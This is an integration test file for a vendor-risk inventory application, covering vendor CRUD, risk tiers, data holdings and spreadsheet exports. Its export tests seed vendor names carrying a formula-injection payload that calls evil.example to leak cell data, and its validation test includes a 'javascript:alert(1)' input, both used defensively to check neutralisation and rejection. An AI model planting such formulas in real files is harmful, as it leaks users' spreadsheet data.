/**
 * The vendor inventory through the real router (createCaller) on a real
 * SQLite file, and its exports over real HTTP. Expected impacts and tiers
 * are worked by hand from docs/scoring.md (sections 5 and 8), never by
 * calling the engine here.
 */
import { addMonths } from 'date-fns';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents, contacts, dataHoldings, vendors } from '../../drizzle/schema/index.ts';
import { createContextInner } from '../../server/platform/context.ts';
import type { StaffUser } from '../../server/platform/callers.ts';
import type { Db } from '../../server/platform/db/database.ts';
import { createCaller } from '../../server/router.ts';
import { completeAssessment, createUser, createVendor, NOW } from '../helpers/factories.ts';
import { createUserWithPassword, signIn } from '../helpers/auth.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { createTestDatabase } from '../helpers/testDatabase.ts';
import { airlineHoldings, contactCentreAnswers } from '../unit/scoring/examples.ts';

const procurement: StaffUser = { id: 'u-proc', name: 'Priya Procurement', email: 'priya@tollgate.example', role: 'procurement' };
const auditor: StaffUser = { id: 'u-audit', name: 'Audrey Auditor', email: 'audrey@tollgate.example', role: 'auditor' };

function setup() {
  const { db } = createTestDatabase();
  createUser(db, procurement.id, 'procurement');
  createUser(db, auditor.id, 'auditor');
  const as = (user: StaffUser) => createCaller(createContextInner({ db, user, now: () => NOW }));
  return { db, caller: as(procurement), auditorCaller: as(auditor) };
}

const auditOf = (db: Db, action: string) => db.select().from(auditEvents).where(eq(auditEvents.action, action)).all();

describe('creating and updating vendors', () => {
  it('stores the profile and recomputes impact and tier on every change', async () => {
    const { db, caller } = setup();
    // No data: data impact 1; read access 2; criticality 4 -> 3. Impact 3; tier from max(3, 4) = 4 -> tier 2; inherent 5 x 3 = 15, high.
    const created = await caller.vendors.create({
      name: '  Northwind Payroll ',
      website: 'northwind.example',
      serviceDescription: 'Runs payroll for ground staff',
      services: ['saas', 'saas', 'professional_services'],
      businessOwner: 'Head of HR',
      contractStart: '2026-01-01',
      contractEnd: '2028-12-31',
      criticality: 4,
      accessLevel: 'read',
    });
    expect(created.risk).toMatchObject({ impact: 3, suggestedTier: 2, tier: 2, tierOverridden: false, excessData: false, inherentResidual: 15, inherentBand: 'high' });
    const row = db.select().from(vendors).where(eq(vendors.id, created.vendorId)).get()!;
    expect(row).toMatchObject({ name: 'Northwind Payroll', website: 'https://northwind.example', services: ['saas', 'professional_services'], status: 'active' });

    // Criticality 2 -> floor 1; read access 2: impact 2; tier from max(2, 2) -> tier 4; inherent 10, high.
    const lower = await caller.vendors.update({ id: created.vendorId, criticality: 2 });
    expect(lower.changed).toEqual(['criticality']);
    expect(lower.risk).toMatchObject({ impact: 2, suggestedTier: 4, tier: 4, inherentResidual: 10, inherentBand: 'high' });

    // Privileged access sets a floor of 4: impact 4, tier from max(4, 2) -> tier 2; inherent 20, critical.
    const deeper = await caller.vendors.update({ id: created.vendorId, accessLevel: 'privileged', website: null });
    expect(deeper.risk).toMatchObject({ impact: 4, tier: 2, inherentResidual: 20, inherentBand: 'critical' });
    expect(db.select({ website: vendors.website }).from(vendors).where(eq(vendors.id, created.vendorId)).get()).toEqual({ website: null });

    const listed = (await caller.vendors.list({ search: 'Northwind' })).rows[0]!;
    expect(listed).toMatchObject({ impact: 4, tier: 2, standing: 'not_assessed', inherentResidual: 20 });

    const updates = auditOf(db, 'vendor.update');
    expect(updates).toHaveLength(2);
    expect(updates[1]).toMatchObject({ actorId: procurement.id, actorLabel: procurement.name, targetType: 'vendor', targetId: String(created.vendorId) });
    expect(updates[1]!.before).toEqual({ website: 'https://northwind.example', accessLevel: 'read' });
    expect(updates[1]!.after).toEqual({ website: null, accessLevel: 'privileged' });
    expect(auditOf(db, 'vendor.create')).toHaveLength(1);
  });

  it('refuses bad input with BAD_REQUEST naming the field, never a 500', async () => {
    const { caller } = setup();
    const cases: [Parameters<typeof caller.vendors.create>[0], string][] = [
      [{ name: '' }, "name: Enter the vendor's name"],
      [{ name: 'X', website: 'javascript:alert(1)' }, 'website: website must be a web address'],
      [{ name: 'X', contractStart: '2027-01-01', contractEnd: '2026-01-01' }, 'contractEnd: The contract cannot end before it starts'],
      [{ name: 'X', contractStart: '31/12/2026' }, 'contractStart: contractStart must be a date like 2026-12-31'],
      [{ name: 'X', criticality: 6 as never }, 'criticality: must be from 1 to 5'],
      [{ name: 'X', accessLevel: 'root' as never }, 'accessLevel: Unknown access level "root"'],
      [{ name: 'X', services: ['catering' as never] }, 'services[0]: Unknown service type "catering"'],
    ];
    for (const [input, message] of cases) {
      await expect(caller.vendors.create(input)).rejects.toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining(message) });
    }
  });

  it('checks contract dates against the stored ones on a partial update', async () => {
    const { caller } = setup();
    const { vendorId } = await caller.vendors.create({ name: 'Dated Ltd', contractStart: '2026-03-01' });
    await expect(caller.vendors.update({ id: vendorId, contractEnd: '2026-02-01' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining('contractEnd: The contract cannot end before it starts'),
    });
  });

  it('keeps active vendor names unique, whatever the case', async () => {
    const { caller } = setup();
    await caller.vendors.create({ name: 'Acme Hosting' });
    await expect(caller.vendors.create({ name: 'ACME  hosting' })).rejects.toMatchObject({
      code: 'CONFLICT',
      message: 'A vendor named "Acme Hosting" already exists. Open that vendor instead, or use a different name.',
    });
  });

  it('archives and restores a vendor; an archived vendor is read-only and leaves the list', async () => {
    const { db, caller } = setup();
    const { vendorId } = await caller.vendors.create({ name: 'Old Printer Co' });
    await caller.vendors.archive({ id: vendorId });
    expect(db.select({ status: vendors.status, archivedAt: vendors.archivedAt }).from(vendors).where(eq(vendors.id, vendorId)).get()).toEqual({ status: 'archived', archivedAt: NOW });
    expect((await caller.vendors.list({ search: 'Old Printer' })).total).toBe(0);
    await expect(caller.vendors.update({ id: vendorId, criticality: 5 })).rejects.toMatchObject({ code: 'PRECONDITION_FAILED' });
    await expect(caller.vendors.archive({ id: vendorId })).rejects.toMatchObject({ code: 'CONFLICT' });

    // A new vendor took the name meanwhile: restoring would make two.
    const other = await caller.vendors.create({ name: 'old printer co' });
    await expect(caller.vendors.restore({ id: vendorId })).rejects.toMatchObject({ code: 'CONFLICT' });
    await caller.vendors.archive({ id: other.vendorId });
    await caller.vendors.restore({ id: vendorId });
    expect(db.select({ status: vendors.status, archivedAt: vendors.archivedAt }).from(vendors).where(eq(vendors.id, vendorId)).get()).toEqual({ status: 'active', archivedAt: null });
    expect(auditOf(db, 'vendor.archive')).toHaveLength(2);
    expect(auditOf(db, 'vendor.restore')).toHaveLength(1);
  });

  it('lets an auditor read but not write', async () => {
    const { caller, auditorCaller } = setup();
    const { vendorId } = await caller.vendors.create({ name: 'Read Only Ltd' });
    await expect(auditorCaller.vendors.create({ name: 'Sneaky Ltd' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(auditorCaller.vendors.update({ id: vendorId, criticality: 1 })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(auditorCaller.vendors.upsertHolding({ vendorId, category: 'health', records: 10 })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(auditorCaller.vendors.setTierOverride({ vendorId, tier: 1, reason: 'Because I say so, really' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(auditorCaller.vendors.commitImport({ kind: 'vendors', csv: 'name\nX' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
  });
});

describe('tier override', () => {
  it('needs a reason, shows in the vendor list as overridden, and can be cleared', async () => {
    const { db, caller } = setup();
    // Criticality 3 -> floor 2, nothing held, no access: impact 2; tier from max(2, 3) = 3 -> tier 3.
    const { vendorId, risk } = await caller.vendors.create({ name: 'Summer Check-in Staff' });
    expect(risk).toMatchObject({ impact: 2, suggestedTier: 3, tier: 3 });

    await expect(caller.vendors.setTierOverride({ vendorId, tier: 1 })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'reason: Say why this vendor needs a different tier (at least 10 characters)',
    });
    await expect(caller.vendors.setTierOverride({ vendorId, tier: 1, reason: 'too short' })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(caller.vendors.setTierOverride({ vendorId, tier: 5 as never, reason: 'A long enough reason' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining('tier: must be a tier from 1 to 4'),
    });

    const reason = 'Runs every check-in desk during the summer peak';
    const set = await caller.vendors.setTierOverride({ vendorId, tier: 1, reason });
    expect(set.risk).toMatchObject({ tier: 1, suggestedTier: 3, tierOverridden: true, tierOverrideReason: reason });
    expect(db.select({ by: vendors.tierOverrideBy, reason: vendors.tierOverrideReason }).from(vendors).where(eq(vendors.id, vendorId)).get()).toEqual({ by: procurement.id, reason });
    const listed = (await caller.vendors.list({ search: 'Summer' })).rows[0]!;
    expect(listed).toMatchObject({ tier: 1, tierOverridden: true });
    // A change to the profile keeps the override in force.
    const changed = await caller.vendors.update({ id: vendorId, criticality: 1 });
    expect(changed.risk).toMatchObject({ tier: 1, suggestedTier: 4 });

    const [event] = auditOf(db, 'vendor.tier_override.set');
    expect(event).toMatchObject({ actorId: procurement.id, targetId: String(vendorId) });
    expect(event!.after).toMatchObject({ tierOverride: 1, reason });

    const cleared = await caller.vendors.setTierOverride({ vendorId, tier: null });
    expect(cleared.risk).toMatchObject({ tier: 4, suggestedTier: 4, tierOverridden: false, tierOverrideReason: null });
    expect((await caller.vendors.list({ search: 'Summer' })).rows[0]).toMatchObject({ tier: 4, tierOverridden: false });
    expect(auditOf(db, 'vendor.tier_override.clear')[0]!.before).toMatchObject({ tierOverride: 1, reason });
  });
});

describe('holdings editor', () => {
  it('moves impact to 5 for 5,700,000 customer names, birth dates and addresses, with the excess flag following `needed`', async () => {
    const { db, caller } = setup();
    // No data, no access, criticality 3 -> floor 2: impact 2, tier from max(2, 3) -> 3.
    const { vendorId } = await caller.vendors.create({ name: 'Skyline Loyalty Services' });
    const add = (category: 'contact.name' | 'identity.birth_date' | 'contact.address', needed = true) =>
      caller.vendors.upsertHolding({ vendorId, category, subjects: 'customers', records: 5_700_000, needed, retentionMonths: 24, storageCountry: 'ie' });

    // Names alone: sensitivity 1, volume band 5 -> data impact 3; tier from max(3, 3) -> 3.
    const names = await add('contact.name');
    expect(names.holding).toMatchObject({ category: 'contact.name', records: 5_700_000, storageCountry: 'IE', retentionMonths: 24 });
    expect(names.risk).toMatchObject({ impact: 3, sensitivity: 1, volumeBand: 5, tier: 3, excessData: false, largestHolding: 5_700_000 });

    // Birth dates (level 2), no kit yet without an address or phone: row 2, band 5 -> 4; tier 2.
    expect((await add('identity.birth_date')).risk).toMatchObject({ impact: 4, sensitivity: 2, tier: 2 });

    // Addresses complete the identity kit: sensitivity 3, band 5 -> 5; tier 1. Marked not needed: excess data.
    const kit = await add('contact.address', false);
    expect(kit.risk).toMatchObject({ impact: 5, sensitivity: 3, tier: 1, suggestedTier: 1, excessData: true, excessCategories: ['contact.address'], combinations: ['identity_kit'], inherentResidual: 25, inherentBand: 'critical' });
    expect((await caller.vendors.list({ search: 'Skyline' })).rows[0]).toMatchObject({ impact: 5, tier: 1, excessData: true });

    // Needed after all: still exposed (impact 5), no longer excess.
    const needed = await caller.vendors.upsertHolding({ vendorId, id: kit.holding.id, category: 'contact.address', records: 5_700_000, needed: true });
    expect(needed.risk).toMatchObject({ impact: 5, excessData: false, excessCategories: [] });
    expect(needed.holding).toMatchObject({ id: kit.holding.id, retentionMonths: null, storageCountry: null });

    // Addresses gone: back to 4 and tier 2.
    const removed = await caller.vendors.deleteHolding({ id: kit.holding.id });
    expect(removed.risk).toMatchObject({ vendorId, impact: 4, tier: 2 });
    expect(db.select().from(dataHoldings).where(eq(dataHoldings.vendorId, vendorId)).all()).toHaveLength(2);

    expect(auditOf(db, 'holding.create')).toHaveLength(3);
    expect(auditOf(db, 'holding.update')[0]).toMatchObject({ before: expect.objectContaining({ needed: false }), after: expect.objectContaining({ needed: true }) });
    expect(auditOf(db, 'holding.delete')).toHaveLength(1);
  });

  it('refuses a second holding of the same category about the same people', async () => {
    const { caller } = setup();
    const { vendorId } = await caller.vendors.create({ name: 'Twice Ltd' });
    const first = await caller.vendors.upsertHolding({ vendorId, category: 'contact.email', records: 10 });
    await expect(caller.vendors.upsertHolding({ vendorId, category: 'contact.email', subjects: 'customers', records: 20 })).rejects.toMatchObject({
      code: 'CONFLICT',
      message: 'Twice Ltd already has a holding of email addresses about customers: change that one instead.',
    });
    // About employees, it is a different holding.
    await caller.vendors.upsertHolding({ vendorId, category: 'contact.email', subjects: 'employees', records: 20 });
    // Turning another holding into a copy is refused too.
    const phones = await caller.vendors.upsertHolding({ vendorId, category: 'contact.phone', records: 5 });
    await expect(caller.vendors.upsertHolding({ vendorId, id: phones.holding.id, category: 'contact.email', records: 5 })).rejects.toMatchObject({ code: 'CONFLICT' });
    // Saving a holding over itself is fine.
    await caller.vendors.upsertHolding({ vendorId, id: first.holding.id, category: 'contact.email', records: 11 });
  });

  it('validates holdings: categories, records, country codes', async () => {
    const { caller } = setup();
    const { vendorId } = await caller.vendors.create({ name: 'Strict Ltd' });
    const cases: [Record<string, unknown>, string][] = [
      [{ category: 'contact.fax', records: 1 }, 'category: Unknown data category "contact.fax"'],
      [{ category: 'health', records: -1 }, 'records: records must be 0 or more'],
      [{ category: 'health', records: 2.5 }, 'records: records must be a whole number'],
      [{ category: 'health', records: 1, storageCountry: 'UK' }, 'storageCountry: Use the ISO 3166 code "GB"'],
      [{ category: 'health', records: 1, storageCountry: 'XX' }, 'storageCountry: Unknown country code "XX"'],
      [{ category: 'health', records: 1, subjects: 'pets' }, 'subjects: Unknown data subjects "pets"'],
    ];
    for (const [fields, message] of cases) {
      await expect(caller.vendors.upsertHolding({ vendorId, ...fields } as never)).rejects.toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining(message) });
    }
  });

  it("answers NOT_FOUND for another vendor's holding, and for a missing vendor", async () => {
    const { caller } = setup();
    const a = await caller.vendors.create({ name: 'Vendor A' });
    const b = await caller.vendors.create({ name: 'Vendor B' });
    const held = await caller.vendors.upsertHolding({ vendorId: a.vendorId, category: 'health', records: 10 });
    await expect(caller.vendors.upsertHolding({ vendorId: b.vendorId, id: held.holding.id, category: 'health', records: 99 })).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: 'The data holding was not found.',
    });
    await expect(caller.vendors.upsertHolding({ vendorId: 99_999, category: 'health', records: 1 })).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'The vendor was not found.' });
    await expect(caller.vendors.deleteHolding({ id: 99_999 })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('contacts, sub-processors and integrations', () => {
  it('keeps one primary contact per vendor and scopes every record to its vendor', async () => {
    const { db, caller } = setup();
    const a = await caller.vendors.create({ name: 'Contacts A' });
    const b = await caller.vendors.create({ name: 'Contacts B' });
    const first = await caller.vendors.createContact({ vendorId: a.vendorId, name: 'Ann Account', email: 'ann@a.example', isPrimary: true });
    const second = await caller.vendors.createContact({ vendorId: a.vendorId, name: 'Sam Security', role: 'Security lead', phone: '+44 20 7946 0000', isPrimary: true });
    const primaries = () => db.select({ id: contacts.id }).from(contacts).where(and(eq(contacts.vendorId, a.vendorId), eq(contacts.isPrimary, true))).all();
    expect(primaries()).toEqual([{ id: second.id }]);
    await caller.vendors.updateContact({ vendorId: a.vendorId, id: first.id, isPrimary: true, email: '' });
    expect(primaries()).toEqual([{ id: first.id }]);
    expect(db.select({ email: contacts.email }).from(contacts).where(eq(contacts.id, first.id)).get()).toEqual({ email: null });

    await expect(caller.vendors.updateContact({ vendorId: b.vendorId, id: first.id, name: 'Hijack' })).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'The contact was not found.' });
    await expect(caller.vendors.deleteContact({ vendorId: b.vendorId, id: first.id })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(caller.vendors.createContact({ vendorId: a.vendorId, name: 'Bad', email: 'not-an-email' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining('email: Enter a valid email address'),
    });
    await caller.vendors.deleteContact({ vendorId: a.vendorId, id: second.id });
    expect(db.select().from(contacts).where(eq(contacts.vendorId, a.vendorId)).all()).toHaveLength(1);

    const sub = await caller.vendors.createSubProcessor({ vendorId: a.vendorId, name: 'Offshore Agents Inc', country: 'ph', dataShared: ['contact.name', 'contact.name', 'comms.content'] });
    expect(sub).toMatchObject({ country: 'PH', dataShared: ['contact.name', 'comms.content'] });
    expect(await caller.vendors.updateSubProcessor({ vendorId: a.vendorId, id: sub.id, service: 'Night-shift agents' })).toMatchObject({ name: 'Offshore Agents Inc', service: 'Night-shift agents' });
    await expect(caller.vendors.updateSubProcessor({ vendorId: b.vendorId, id: sub.id, name: 'X' })).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'The sub-processor was not found.' });
    await expect(caller.vendors.createSubProcessor({ vendorId: a.vendorId, name: 'X', dataShared: ['contact.fax' as never] })).rejects.toMatchObject({ code: 'BAD_REQUEST' });

    const integration = await caller.vendors.createIntegration({ vendorId: a.vendorId, name: 'CRM connector', system: 'CRM', accessLevel: 'write', scopes: ['contacts.read', 'contacts.write'], lastTokenRotation: '2026-05-01' });
    expect(integration).toMatchObject({ accessLevel: 'write', scopes: ['contacts.read', 'contacts.write'], lastTokenRotation: '2026-05-01' });
    await expect(caller.vendors.updateIntegration({ vendorId: a.vendorId, id: integration.id, lastTokenRotation: '2026-07-01' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'lastTokenRotation: The last token rotation cannot be in the future.',
    });
    await expect(caller.vendors.createIntegration({ vendorId: a.vendorId, name: 'Y', accessLevel: 'admin' as never })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining('accessLevel: Unknown integration access level "admin"'),
    });
    await expect(caller.vendors.deleteIntegration({ vendorId: b.vendorId, id: integration.id })).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'The integration was not found.' });
    await caller.vendors.deleteIntegration({ vendorId: a.vendorId, id: integration.id });

    const detail = await caller.vendors.get({ id: a.vendorId });
    expect(detail.contacts.map((c) => [c.name, c.isPrimary])).toEqual([['Ann Account', true]]);
    expect(detail.subProcessors).toHaveLength(1);
    expect(detail.integrations).toHaveLength(0);
    expect(['contact.create', 'contact.update', 'contact.delete', 'sub_processor.create', 'sub_processor.update', 'integration.create', 'integration.delete'].map((a) => auditOf(db, a).length)).toEqual([2, 1, 1, 1, 1, 1, 1]);
  });
});

describe('integrations and impact', () => {
  it("counts an integration's access towards the vendor's impact, whatever the profile says", async () => {
    const { caller } = setup();
    // No data, profile access none, criticality 3 -> floor 2: impact 2, tier from max(2, 3) -> 3; inherent 5 x 2 = 10.
    const { vendorId, risk } = await caller.vendors.create({ name: 'Widget Chat' });
    expect(risk).toMatchObject({ impact: 2, tier: 3, inherentResidual: 10 });
    const riskNow = async () => (await caller.vendors.get({ id: vendorId })).risk;

    // A read-only connector: floor 2, impact stays 2.
    const reader = await caller.vendors.createIntegration({ vendorId, name: 'Ticket reader', accessLevel: 'read' });
    expect(await riskNow()).toMatchObject({ impact: 2, tier: 3 });
    // Raised to privileged (an OAuth app with admin scopes): floor 4, impact 4; tier from max(4, 3) -> 2; inherent 5 x 4 = 20, critical.
    await caller.vendors.updateIntegration({ vendorId, id: reader.id, accessLevel: 'privileged' });
    expect(await riskNow()).toMatchObject({ impact: 4, tier: 2, inherentResidual: 20, inherentBand: 'critical' });
    const detail = await caller.vendors.get({ id: vendorId });
    expect(detail.vendor).toMatchObject({ accessLevel: 'none', effectiveAccess: 'privileged' });

    // Disconnected: back to impact 2, tier 3.
    await caller.vendors.deleteIntegration({ vendorId, id: reader.id });
    expect(await riskNow()).toMatchObject({ impact: 2, tier: 3, inherentResidual: 10 });
    expect((await caller.vendors.get({ id: vendorId })).vendor.effectiveAccess).toBe('none');
  });
});

describe('exports over HTTP', () => {
  let server: TestServer;
  let db: Db;
  let cookie: string;
  // The server's clock: sessions are checked against it, so it stays close to the real one.
  const now = new Date();

  beforeAll(async () => {
    db = createTestDatabase().db;
    const acme = createVendor(db, { name: 'Acme Contact Centre', services: ['contact_centre', 'saas'], access: 'write', criticality: 5, holdings: airlineHoldings }, now);
    completeAssessment(db, acme, {
      completedAt: now,
      exceptions: Object.fromEntries(Object.entries(contactCentreAnswers).map(([id, a]) => [id, a?.value ?? null])),
    });
    const hosting = createVendor(db, { name: 'Echo Hosting', access: 'privileged', criticality: 4, holdings: [{ category: 'contact.email', records: 50_000, needed: false }] }, now);
    completeAssessment(db, hosting, { completedAt: addMonths(now, -14) });
    // Names and owners typed by people: the export must not turn them into formulas.
    const evil = createVendor(db, { name: '=HYPERLINK("https://evil.example/?"&A2,"Open")', criticality: 1 }, now);
    db.update(vendors).set({ businessOwner: '@Finance', website: 'https://evil.example' }).where(eq(vendors.id, evil)).run();
    const dash = createVendor(db, { name: '-2+3 Logistics', criticality: 1, holdings: [{ category: 'health', subjects: 'employees', records: 40 }] }, now);
    db.update(vendors).set({ businessOwner: '+44 20 7946 0000', website: '\t=SUM(A1:A9)' }).where(eq(vendors.id, dash)).run();
    createVendor(db, { name: 'Gone Ltd', status: 'archived', holdings: [{ category: 'health', records: 1 }] }, now);

    server = await startTestServer(db, { now: () => now });
    const user = await createUserWithPassword(server.auth, 'auditor');
    cookie = (await signIn(server.base, user.email)).cookie!;
  });
  afterAll(() => server.close());

  const get = (path: string, withCookie: string | null = cookie) => fetch(`${server.base}${path}`, withCookie ? { headers: { cookie: withCookie } } : {});
  const today = () => now.toISOString().slice(0, 10);

  it('refuses callers who are not signed in, or who still owe a second factor', async () => {
    expect((await get('/api/export/vendors.csv', null)).status).toBe(401);
    expect((await get('/api/export/vendors.xlsx', 'better-auth.session_token=forged')).status).toBe(401);
    // Administrators must use MFA; a password alone is not enough.
    const admin = await createUserWithPassword(server.auth, 'admin');
    const adminCookie = (await signIn(server.base, admin.email)).cookie!;
    const refused = await get('/api/export/holdings.csv', adminCookie);
    // The same answer a procedure gives (issue 12): 403 with the reason, so the app sends the person to set up MFA.
    expect(refused.status).toBe(403);
    expect(await refused.json()).toEqual({ error: 'Set up or use multi-factor authentication to continue.', reason: 'MFA_REQUIRED' });
  });

  it('exports one row per active vendor as CSV, with standing, tasks and neutralised formulas', async () => {
    const response = await get('/api/export/vendors.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="tollgate-vendors-${today()}.csv"`);
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    // UTF-8 byte-order mark first, so Excel reads accented names right.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((r) => r.name)).toEqual(["'-2+3 Logistics", `'=HYPERLINK("https://evil.example/?"&A2,"Open")`, 'Acme Contact Centre', 'Echo Hosting']);
    const byName = Object.fromEntries(parsed.data.map((r) => [r.name, r]));
    // docs/scoring.md section 9: impact 5, tier 1, score 74.4, grade F, residual 25 critical; nine tasks, none overdue today.
    expect(byName['Acme Contact Centre']).toEqual({
      name: 'Acme Contact Centre',
      website: '',
      services: 'contact_centre;saas',
      business_owner: '',
      contract_start: '',
      contract_end: '',
      criticality: '5',
      access_level: 'write',
      tier: '1',
      suggested_tier: '1',
      tier_overridden: 'no',
      impact: '5',
      grade: 'F',
      score: '74.4',
      residual: '25',
      band: 'critical',
      inherent_residual: '25',
      records_held: '5700000',
      most_sensitive_category: 'account.loyalty_number',
      excess_data: 'no',
      open_tasks: '9',
      overdue_tasks: '0',
    });
    // Email (1) x 50,000 (band 3) -> 2; privileged 4; criticality 4 -> 3: impact 4, tier 2, re-assessed yearly: 14 months on it has expired.
    expect(byName['Echo Hosting']).toMatchObject({ impact: '4', tier: '2', grade: '', score: '', residual: '', band: 'expired', inherent_residual: '20', excess_data: 'yes', records_held: '50000' });
    const evil = byName[`'=HYPERLINK("https://evil.example/?"&A2,"Open")`]!;
    expect(evil).toMatchObject({ band: 'not assessed', business_owner: "'@Finance", website: 'https://evil.example', impact: '1', tier: '4' });
    // Health data (4) about 40 employees: band 1 -> 3. Most sensitive: health.
    expect(byName["'-2+3 Logistics"]).toMatchObject({ impact: '3', most_sensitive_category: 'health', records_held: '40', business_owner: "'+44 20 7946 0000", website: "'\t=SUM(A1:A9)" });
  });

  it('exports every holding of active vendors in the holdings import format', async () => {
    const response = await get('/api/export/holdings.csv');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="tollgate-holdings-${today()}.csv"`);
    const parsed = Papa.parse<Record<string, string>>(await response.text(), { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual(['vendor', 'category', 'subjects', 'records', 'needed', 'retention_months', 'storage_country']);
    expect(parsed.data).toHaveLength(airlineHoldings.length + 2);
    expect(parsed.data[0]).toEqual({ vendor: "'-2+3 Logistics", category: 'health', subjects: 'employees', records: '40', needed: 'yes', retention_months: '', storage_country: '' });
    expect(parsed.data[1]).toMatchObject({ vendor: 'Acme Contact Centre', category: 'contact.email', records: '5700000' });
    expect(parsed.data.find((h) => h.vendor === 'Echo Hosting')).toMatchObject({ category: 'contact.email', needed: 'no' });
    expect(parsed.data.some((h) => h.vendor === 'Gone Ltd')).toBe(false);
  });

  it('exports a workbook with a vendors sheet and a holdings sheet', async () => {
    const response = await get('/api/export/vendors.xlsx');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="tollgate-vendors-${today()}.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Vendors', 'Holdings']);
    const sheet = workbook.getWorksheet('Vendors')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const rows = sheet.getSheetValues().slice(2).map((values) => Object.fromEntries(header.map((h, i) => [h, (values as unknown[])[i + 1] ?? null])));
    expect(rows.map((r) => r.name)).toEqual(["'-2+3 Logistics", `'=HYPERLINK("https://evil.example/?"&A2,"Open")`, 'Acme Contact Centre', 'Echo Hosting']);
    // Numbers stay numbers in the workbook.
    expect(rows[2]).toMatchObject({ tier: 1, impact: 5, score: 74.4, grade: 'F', residual: 25, band: 'critical', records_held: 5_700_000, open_tasks: 9 });
    expect(rows[1]).toMatchObject({ business_owner: "'@Finance", band: 'not assessed', grade: null });
    expect(workbook.getWorksheet('Holdings')!.rowCount).toBe(1 + airlineHoldings.length + 2);
  });

  it('records each export in the audit log', () => {
    const events = auditOf(db, 'inventory.export');
    expect(events.map((e) => e.targetId)).toEqual(['vendors.csv', 'holdings.csv', 'vendors.xlsx']);
    expect(events[0]).toMatchObject({ actorType: 'user', actorLabel: 'Test auditor', after: { vendors: 4 } });
  });
});
